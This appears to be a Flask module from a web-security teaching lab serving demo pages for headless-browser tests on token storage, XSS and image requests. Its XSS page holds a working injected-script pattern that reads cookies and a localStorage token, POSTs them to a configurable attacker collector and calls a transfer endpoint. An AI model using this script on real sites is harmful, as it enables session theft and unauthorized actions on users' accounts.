"""The token app's demo pages for the browser labs of 04a: an XSS page, an <img> page, a login page, a pixel.

Registered by ``create_token_app`` as a second blueprint (``demo_bp``); each page is plain HTML whose
script writes what it saw into the DOM, so headless Chromium can report it.
"""

from __future__ import annotations

import base64
import json

from flask import Blueprint, Response, request

from sessionlab.apps.token import token_required

demo_bp = Blueprint("token_demo", __name__)


def _page(template: str, **values) -> tuple[str, int, dict]:
    for name, value in values.items():
        template = template.replace(f"__{name.upper()}__", json.dumps(value))
    return template, 200, {"Content-Type": "text/html; charset=utf-8"}


def _loopback_url(url: str | None) -> str | None:
    """Only a collector on this machine (http://127.0.0.1:PORT or a name the lab maps to it)."""
    if not url or not url.startswith("http://") or any(c in url for c in "\"'<> "):
        return None
    return url.rstrip("/")


@demo_bp.get("/demo/xss")
def xss_demo():
    store = request.args.get("store", "cookie")
    if store not in ("cookie", "localStorage"):
        store = "cookie"
    return _page(_XSS_PAGE, store=store, attacker=_loopback_url(request.args.get("attacker")))


@demo_bp.get("/demo/img")
def img_demo():
    store = request.args.get("store", "cookie")
    if store not in ("cookie", "bearer"):
        store = "cookie"
    return _page(_IMG_PAGE, store=store)


@demo_bp.get("/demo/login")
def login_demo():
    return _page(_LOGIN_PAGE)


# A 1×1 transparent GIF: what a tracking pixel or an avatar request fetches.
_PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")


@demo_bp.get("/demo/pixel.gif")
@token_required
def pixel():
    return Response(_PIXEL, mimetype="image/gif")


# The page logs in, keeps the token where ``store`` says, then runs the "injected" script.
_XSS_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>XSS 실험</title></head>
<body><h1>XSS 실험</h1><pre id="report">실행 중…</pre>
<script>
const STORE = __STORE__, ATTACKER = __ATTACKER__;
async function main() {
  const r = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({username: 'alice', password: 'alice-pw', cookie: STORE === 'cookie'})});
  const body = await r.json();
  if (STORE === 'localStorage') localStorage.setItem('access_token', body.access_token);
  // ---- below: what an injected (XSS) script can do on this page ----
  const stolenCookie = document.cookie;
  const stolenStorage = localStorage.getItem('access_token') || '';
  let sent = false;
  if (ATTACKER) {  // exfiltrate: a simple cross-origin POST, no CORS needed to *send*
    await fetch(ATTACKER + '/collect', {method: 'POST', mode: 'no-cors',
      body: JSON.stringify({from: location.origin, cookie: stolenCookie, token: stolenStorage})});
    sent = true;
  }
  // misuse without stealing: call the API from the page, as the page itself would
  const auth = stolenStorage ? {'Authorization': 'Bearer ' + stolenStorage} : {};
  const me = await fetch('/me', {credentials: 'same-origin', headers: auth});
  const misuse = await fetch('/transfer', {method: 'POST', credentials: 'same-origin',
    headers: {...auth, 'Content-Type': 'application/json', 'X-Requested-With': 'xss'},
    body: JSON.stringify({to: 'mallory'})});
  // a fresh pair from the page: the refresh cookie rides along; can the script read the answer?
  const fresh = await fetch('/refresh', {method: 'POST', credentials: 'same-origin'});
  const freshBody = await fresh.json().catch(() => ({}));
  const report = {store: STORE,
    refresh_status: fresh.status,
    refresh_token_readable: typeof freshBody.access_token === 'string',
    cookie_readable: stolenCookie.includes('access_token='),
    storage_readable: stolenStorage.split('.').length === 3,
    sent_to_attacker: sent,
    api_call_status: me.status,
    transfer_status: misuse.status};
  document.getElementById('report').textContent = JSON.stringify(report);
}
main().catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
</script></body></html>"""


# Log in (token as a cookie, or kept in localStorage for an Authorization header), then load an image.
_IMG_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>img 실험</title></head>
<body><pre id="report">실행 중…</pre>
<script>
const STORE = __STORE__;
async function main() {
  const r = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({username: 'alice', password: 'alice-pw', cookie: STORE === 'cookie'})});
  const token = (await r.json()).access_token;
  const auth = STORE === 'bearer' ? {'Authorization': 'Bearer ' + token} : {};
  const me = await fetch('/me', {headers: auth});  // the app's own fetch: it can add the header
  const img = new Image();
  const loaded = await new Promise(done => { img.onload = () => done(true); img.onerror = () => done(false);
    img.src = '/demo/pixel.gif?store=' + STORE; });  // an <img>: the browser builds the request
  document.getElementById('report').textContent = JSON.stringify(
    {store: STORE, fetch_me_status: me.status, img_loaded: loaded});
}
main().catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
</script></body></html>"""


# Log in with cookies only (the first step of the cross-site labs).
_LOGIN_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>login</title></head>
<body><pre id="report">실행 중…</pre>
<script>
fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({username: 'alice', password: 'alice-pw'})})
  .then(r => { document.getElementById('report').textContent = JSON.stringify({login_status: r.status}); })
  .catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
</script></body></html>"""
